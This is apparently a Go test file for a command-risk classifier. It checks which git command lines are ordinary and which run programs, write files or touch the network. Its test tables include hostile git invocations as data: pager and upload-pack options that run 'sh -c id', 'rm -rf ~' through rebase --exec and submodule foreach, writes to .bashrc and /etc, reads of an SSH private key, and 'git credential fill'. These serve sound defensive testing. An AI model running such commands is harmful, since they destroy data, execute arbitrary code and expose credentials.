package risk

import (
	"strings"
	"testing"
)

// splitLine splits a command line into words: blanks separate words,
// single and double quotes group (without escapes inside single quotes).
func splitLine(s string) []string {
	var out []string
	var cur strings.Builder
	in, quote := false, byte(0)
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case quote != 0 && c == quote:
			quote = 0
		case quote != 0:
			cur.WriteByte(c)
		case c == '\'' || c == '"':
			quote, in = c, true
		case c == ' ' || c == '\t':
			if in {
				out = append(out, cur.String())
				cur.Reset()
				in = false
			}
		default:
			cur.WriteByte(c)
			in = true
		}
	}
	if in {
		out = append(out, cur.String())
	}
	return out
}

// gitOrdinary are ordinary git command lines: each must parse with every
// option known.
var gitOrdinary = []string{
	"git status", "git status -sb", "git status --short", "git status --porcelain", "git status --porcelain=v2",
	"git status --porcelain=v2 --branch -z", "git status --ignored", "git status -uno", "git status --untracked-files=all",
	"git status --short .env",
	"git log --oneline -5", "git log --graph --decorate --all -n 20", "git log --oneline -20",
	"git log -p -3 -- src/", "git log -p -1 -- src/main.go", "git log --graph --decorate --oneline --all",
	"git log --format='%h %s' --since=2.weeks", "git log --author=alice --since=2.weeks", "git log -p -S foo",
	"git log --pretty=format:'%H %an %ad' --date=short", "git log --stat -n 3", "git log --name-status HEAD~5..HEAD",
	"git log --follow -- src/main.go", "git log -L 10,20:src/main.go", "git log --no-merges --first-parent main",
	"git log --grep=fix -i --all-match", "git log origin/main..HEAD --oneline", "git log -G 'func.*Parse' --oneline",
	"git log --since='2 weeks ago' --until=yesterday --author='Alice Smith'", "git log -n5 --no-decorate",
	"git log --left-right --cherry-pick --oneline main...feature", "git log --reverse --format=%H | head -1",
	"git log --shortstat --no-color -1", "git log -1 --format=%cd --date=iso-strict", "git log --diff-filter=A --name-only",
	"git log --word-diff -p -1", "git log --topo-order --boundary --simplify-by-decoration", "git log -g --oneline",
	"git --no-pager log -5", "git -C sub log -1", "git -C src status", "git --git-dir=.git --work-tree=. status",
	"git -P diff", "git --no-optional-locks status --porcelain", "git --literal-pathspecs ls-files",
	"git diff", "git diff --stat HEAD~3", "git diff --stat HEAD~3..HEAD", "git diff --cached --name-only",
	"git diff --cached", "git diff --staged --stat", "git diff -U0", "git diff -U10 main", "git diff HEAD~1 -- src/main.go",
	"git diff main...HEAD", "git diff --name-only", "git diff --no-index a.txt b.txt", "git diff --color-words",
	"git diff --word-diff=color", "git diff -w --ignore-blank-lines", "git diff --check", "git diff --numstat HEAD",
	"git diff --diff-filter=M --name-status", "git diff --merge-base main", "git diff --no-ext-diff --no-textconv",
	"git diff --find-renames=50% --stat", "git diff -M -C --summary", "git diff --exit-code --quiet",
	"git show HEAD", "git show HEAD:README.md", "git show HEAD~1:README.md", "git show --stat HEAD~2",
	"git show --name-only --format= HEAD", "git show -s --format=%B HEAD", "git show v1.2.3 --no-patch",
	"git blame src/main.go", "git blame -L 10,20 f", "git blame -w -C -M HEAD -- f", "git blame --porcelain f",
	"git blame -e --date=short f", "git annotate f",
	"git grep -n foo -- '*.go'", "git grep -e foo --and -e bar", "git grep -il todo", "git grep --untracked TODO",
	"git grep -c foo", "git grep -5 foo", "git grep -W -p func", "git grep --cached -F 'a.b'",
	"git branch", "git branch -a", "git branch -vv", "git branch -a --merged", "git branch --show-current",
	"git branch -r --no-merged main", "git branch --sort=-committerdate --format='%(refname:short)'",
	"git branch --list 'feature/*'", "git branch -d old", "git branch -m new-name", "git branch --contains HEAD",
	"git tag", "git tag -l 'v1.*'", "git tag v1.2.3", "git tag -a v1 -m 'release'", "git tag --sort=-v:refname",
	"git tag -n5", "git tag --points-at HEAD",
	"git describe --tags --abbrev=0", "git describe --always --dirty", "git shortlog -sn", "git shortlog -sne --all",
	"git reflog", "git reflog -10", "git reflog show --date=relative main",
	"git rev-parse --abbrev-ref HEAD", "git rev-parse HEAD", "git rev-parse --show-toplevel", "git rev-parse --short HEAD",
	"git rev-parse --is-inside-work-tree", "git rev-parse --git-dir", "git rev-parse --verify -q main",
	"git rev-parse --abbrev-ref --symbolic-full-name @{u}", "git rev-list --count HEAD", "git rev-list --all --objects",
	"git rev-list -n 1 --before=2024-01-01 main", "git rev-list --left-right --count main...HEAD",
	"git ls-files", "git ls-files -z", "git ls-files --error-unmatch .env", "git ls-files -m -o --exclude-standard",
	"git ls-files --others --ignored --exclude-standard --directory", "git ls-files -s", "git ls-tree -r HEAD --name-only",
	"git ls-tree HEAD src/", "git ls-remote origin", "git ls-remote --tags --refs origin",
	"git cat-file -p HEAD", "git cat-file -t HEAD", "git cat-file -s HEAD:README.md", "git cat-file --batch-check",
	"git show-ref --tags", "git show-ref --verify refs/heads/main", "git for-each-ref --format='%(refname)' refs/heads",
	"git for-each-ref --sort=-committerdate refs/remotes", "git name-rev HEAD", "git merge-base HEAD main",
	"git merge-base --is-ancestor a b", "git config --get user.email", "git config user.name", "git config --list",
	"git config -l --show-origin", "git config --global --get core.editor", "git config --get-regexp '^remote\\.'",
	"git remote -v", "git remote", "git remote show origin", "git remote get-url origin", "git remote add upstream u",
	"git stash", "git stash list", "git stash pop", "git stash show -p stash@{0}", "git stash push -m wip",
	"git stash push -u -m 'wip' -- src/", "git stash apply --index", "git stash drop", "git stash list --oneline",
	"git worktree list", "git worktree list --porcelain", "git worktree add ../wt -b feature", "git worktree remove ../wt",
	"git whatchanged -3", "git count-objects -vH", "git help log", "git help -a", "git version", "git --version",
	"git check-ignore -v .env", "git check-attr -a f", "git var GIT_EDITOR", "git cherry -v main", "git range-diff main...HEAD",
	"git add src/main.go", "git add -A", "git add .", "git add -p", "git add -u", "git add --chmod=+x run.sh",
	"git commit -m x", "git commit -m 'fix: handle empty input'", "git commit -am 'wip'", "git commit --amend --no-edit",
	"git commit --amend -m msg", "git commit -v", "git commit --fixup HEAD~2", "git commit -s -m msg",
	"git commit --allow-empty -m 'ci: retry'", "git commit -F msg.txt", "git commit --no-verify -m x",
	"git checkout -b feature/x", "git checkout main", "git checkout -- f", "git checkout HEAD~1 -- f", "git checkout -",
	"git switch main", "git switch -c feature/x", "git switch --detach HEAD~1", "git restore f", "git restore --staged f",
	"git restore --source=HEAD~1 f", "git reset HEAD f", "git reset --soft HEAD~1", "git reset --hard origin/main",
	"git rm --cached .env", "git rm -r old/", "git mv a b", "git clean -n", "git clean -fd", "git clean -fdx",
	"git merge main", "git merge --no-ff feature", "git merge --abort", "git merge --squash feature",
	"git rebase main", "git rebase -i HEAD~3", "git rebase --continue", "git rebase --onto main a b", "git rebase --abort",
	"git cherry-pick abc123", "git cherry-pick -x abc123", "git cherry-pick --continue", "git revert HEAD --no-edit",
	"git fetch origin", "git fetch --all --prune", "git fetch origin main --depth=1", "git pull --rebase",
	"git pull --ff-only origin main", "git pull", "git push origin feature/x", "git push -u origin HEAD",
	"git push --force-with-lease", "git push --tags", "git push origin --delete old", "git push -f origin main",
	"git clone https://example.com/r.git", "git clone --depth 1 https://example.com/r.git dir",
	"git clone --recurse-submodules -b main https://example.com/r.git", "git init", "git init -b main repo",
	"git apply --check p.diff", "git apply -3 p.diff", "git am -3 p.mbox", "git format-patch -1 HEAD",
	"git format-patch -o out/ main..HEAD", "git format-patch --stdout HEAD~3", "git notes show HEAD",
	"git notes add -m note HEAD", "git gc", "git gc --prune=now", "git prune -n", "git fsck --full",
	"git archive --format=tar.gz -o out.tgz HEAD", "git archive HEAD --prefix=p/", "git bundle create repo.bundle --all",
	"git sparse-checkout list", "git sparse-checkout set --cone src", "git update-index --assume-unchanged .env",
	"git symbolic-ref HEAD", "git update-ref refs/heads/x HEAD", "git pack-refs --all",
	"git submodule status", "git submodule update --init --recursive",
	"git diff-tree --no-commit-id --name-only -r HEAD", "git diff-index --quiet HEAD --", "git diff-files --name-only",
	"git status --porc", "git commit --amen --no-ed", "git branch --show-cur",
}

func TestGitOrdinaryLines(t *testing.T) {
	if len(gitOrdinary) < 80 {
		t.Fatalf("only %d ordinary lines", len(gitOrdinary))
	}
	sp := Lookup("git")
	if sp == nil {
		t.Fatal("no spec for git")
	}
	for _, line := range gitOrdinary {
		line, _, _ = strings.Cut(line, " | ")
		w := splitLine(line)
		if w[0] != "git" {
			t.Fatalf("%q: not a git line", line)
		}
		p := sp.Parse(w[1:], nil)
		if p.Unknown != "" || p.Problem != "" {
			t.Errorf("%s: unknown %q problem %q", line, p.Unknown, p.Problem)
			continue
		}
		e := Command("git", w[1:], nil)
		if e.UnknownOption != "" {
			t.Errorf("%s: effect has unknown option %q", line, e.UnknownOption)
		}
	}
}

// TestGitTypedOrUnknown checks lines whose options run programs, write
// files or are not git's: each is unknown (the spelling given) or its
// effect runs code (Execute or above, not known, with the reason) or
// writes the file named.
func TestGitTypedOrUnknown(t *testing.T) {
	for _, tc := range []struct {
		line    string
		unknown string // the option or subcommand reported unknown
		exec    bool   // the effect runs a program
		write   string // a file the effect writes
		network bool   // the effect is a network access
	}{
		{line: "git -c core.pager='sh -c id' log", exec: true},
		{line: "git -c alias.st='!id' st", unknown: "st"},
		{line: "git -c alias.st='!id' status", exec: true},
		{line: "git --config-env=core.pager=EVIL log", exec: true},
		{line: "git --exec-path=/tmp/x status", exec: true},
		{line: "git log --output=.bashrc", write: ".bashrc"},
		{line: "git diff --output=/tmp/x HEAD", write: "/tmp/x"},
		{line: "git show --output .bashrc HEAD", write: ".bashrc"},
		{line: "git format-patch -o /tmp/out HEAD~2", write: "/tmp/out"},
		{line: "git archive -o /etc/x.tar HEAD", write: "/etc/x.tar"},
		{line: "git diff --ext-diff", exec: true},
		{line: "git log -p --ext-diff", exec: true},
		{line: "git diff --ext-d", unknown: "--ext-d"},
		{line: "git log -p --textconv", unknown: "--textconv"},
		{line: "git cat-file --filters HEAD:f", unknown: "--filters"},
		{line: "git grep -O'touch pwn' x", exec: true},
		{line: "git grep --open-files-in-pager=vim x", exec: true},
		{line: "git rebase -x 'make test' main", exec: true},
		{line: "git rebase --exec='rm -rf ~' main", exec: true},
		{line: "git fetch --upload-pack='sh -c id' origin", exec: true},
		{line: "git pull --upload-pack=evil", exec: true},
		{line: "git clone -u evil https://example.com/r", exec: true},
		{line: "git clone -c core.fsmonitor=evil https://example.com/r", exec: true},
		{line: "git clone --template=/tmp/hooks https://example.com/r", exec: true},
		{line: "git push --receive-pack=evil origin", exec: true},
		{line: "git push --exec=evil origin", exec: true},
		{line: "git ls-remote --upload-pack=evil origin", exec: true},
		{line: "git archive --exec=evil HEAD", exec: true},
		{line: "git archive --remote=https://evil.example/r HEAD", unknown: "--remote"},
		{line: "git send-pack https://evil.example/r main", unknown: "send-pack"},
		{line: "git fetch-pack https://evil.example/r", unknown: "fetch-pack"},
		{line: "git grep --textconv x", unknown: "--textconv"},
		{line: "git range-diff --ext-diff a...b", exec: true},
		{line: "git hash-object -w /home/u/.ssh/id_rsa", unknown: "hash-object"},
		{line: "git merge-file /home/u/.bashrc a b", unknown: "merge-file"},
		{line: "git mailinfo msg patch", unknown: "mailinfo"},
		{line: "git interpret-trailers --in-place --trailer x /home/u/.bashrc", unknown: "--in-place"},
		{line: "git apply --unsafe-paths --directory=/etc p.diff", unknown: "--unsafe-paths"},
		{line: "git credential fill", unknown: "credential"},
		{line: "git merge -s evil feature", exec: true},
		{line: "git pull --strategy=evil origin main", exec: true},
		{line: "git frobnicate", unknown: "frobnicate"},
		{line: "git st", unknown: "st"},
		{line: "git bisect run sh -c id", unknown: "bisect"},
		{line: "git submodule foreach 'rm -rf ~'", network: true},
		{line: "git submodule --quiet update --init --recursive", network: true},
		{line: "git filter-branch --tree-filter 'rm -rf ~' HEAD", unknown: "filter-branch"},
		{line: "git difftool -x evil", unknown: "difftool"},
		{line: "git maintenance start", unknown: "maintenance"},
		{line: "git --no-pag log", unknown: "--no-pag"},
		{line: "git --exec-p=/tmp/x status", unknown: "--exec-p"},
		{line: "git --git-d=/tmp/r status", unknown: "--git-d"},
		{line: "git log --outp=.bashrc", unknown: "--outp"},
		{line: "git log --onel", unknown: "--onel"},
		{line: "git diff --ext", unknown: "--ext"},
		{line: "git commit --frobnicate", unknown: "--frobnicate"},
		{line: "git status --porcelain=v2 --weird", unknown: "--weird"},
		{line: "git log --oneline=1", unknown: "--oneline=1"},
	} {
		w := splitLine(tc.line)
		p := Lookup("git").Parse(w[1:], nil)
		if p.Unknown != tc.unknown {
			t.Errorf("%s: unknown %q, want %q", tc.line, p.Unknown, tc.unknown)
			continue
		}
		e := Command("git", w[1:], nil)
		if tc.unknown != "" {
			if e.UnknownOption != tc.unknown || e.Level < Execute {
				t.Errorf("%s: effect %+v, want unknown %q", tc.line, e, tc.unknown)
			}
			continue
		}
		if tc.exec && (e.Level < Execute || e.Known || e.Exec == "") {
			t.Errorf("%s: effect %+v, want a program run", tc.line, e)
		}
		if tc.network && (e.Level != Network || !e.Network) {
			t.Errorf("%s: effect %+v, want a network access", tc.line, e)
		}
		if tc.write != "" && (e.Level < Write || !containsStr(e.Writes, tc.write)) {
			t.Errorf("%s: effect %+v, want a write of %s", tc.line, e, tc.write)
		}
	}
}

func containsStr(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// TestGitSpecEntries checks each subcommand entry: it parses, and every
// option keeps the kind its own text gives it when a shared set spells it
// too.
func TestGitSpecEntries(t *testing.T) {
	for _, s := range gitSubcommands {
		text := gitSpec(s.text, s.negate, s.shared...)
		list, err := ParseSpecs("git", text)
		if err != nil {
			t.Fatalf("%s: %v", text[:min(40, len(text))], err)
		}
		if len(list) != 1 {
			t.Fatalf("%q: %d entries, want one", s.text[:min(40, len(s.text))], len(list))
		}
	}
	sub := Lookup("git").Subcommand
	for _, tc := range []struct {
		sub, opt string
		kind     ValueKind
	}{
		{"stash", "-S", ValNone}, // --staged, not diff's -S<string>
		{"stash", "-m", ValNone},
		{"format-patch", "-v", ValInert}, // --reroll-count
		{"format-patch", "-o", ValWrite},
		{"log", "--output", ValWrite},
		{"diff", "-O", ValRead},
		{"commit", "--no-edit", ValNone},
		{"commit", "-F", ValRead},
		{"tag", "--no-contains", ValInert},
		{"rebase", "-x", ValExec},
		{"clone", "-c", ValCode},
	} {
		sp := sub(tc.sub)
		if sp == nil {
			t.Fatalf("no subcommand %s", tc.sub)
		}
		var o *Option
		if strings.HasPrefix(tc.opt, "--") {
			o = sp.long[tc.opt[2:]]
		} else {
			o = sp.short[tc.opt[1]]
		}
		if o == nil || o.Value != tc.kind {
			t.Errorf("git %s %s: option %+v, want kind %v", tc.sub, tc.opt, o, tc.kind)
		}
	}
	all, err := loadSpecs(builtinTables())
	if err != nil {
		t.Fatal(err)
	}
	for name, sp := range all["git"].subcommands {
		for _, l := range []string{"textconv", "filters"} {
			if sp.long[l] != nil {
				t.Errorf("git %s lists --%s, which runs configured programs", name, l)
			}
		}
	}
	if sub("commit").NoAbbrev || !sub("log").NoAbbrev || !Lookup("git").NoAbbrev {
		t.Error("abbreviations: commit takes them, log and git's global options do not")
	}
}

// FuzzGitLine reads git command lines: the parse never panics, and a line
// whose options are all known and include one that runs a program has an
// effect that runs a program.
func FuzzGitLine(f *testing.F) {
	for _, l := range gitOrdinary {
		f.Add(l)
	}
	f.Add("git -c core.pager=x log")
	f.Add("git rebase -x make main")
	f.Fuzz(func(t *testing.T, line string) {
		w := splitLine(line)
		if len(w) == 0 || w[0] != "git" {
			return
		}
		p := Lookup("git").Parse(w[1:], nil)
		e := Command("git", w[1:], nil)
		if p.Unknown != "" {
			if e.Level != Execute || e.UnknownOption == "" {
				t.Fatalf("%q: unknown %q but effect %+v", line, p.Unknown, e)
			}
			return
		}
		all := p.Options
		if p.Sub != nil {
			all = append(all, p.Sub.Options...)
		}
		for _, o := range all {
			if o.HasValue && (o.Option.Value == ValExec || o.Option.Value == ValCode) && (e.Level < Execute || e.Known) {
				t.Fatalf("%q: %s runs a program but effect %+v", line, o.Spelled, e)
			}
		}
	})
}
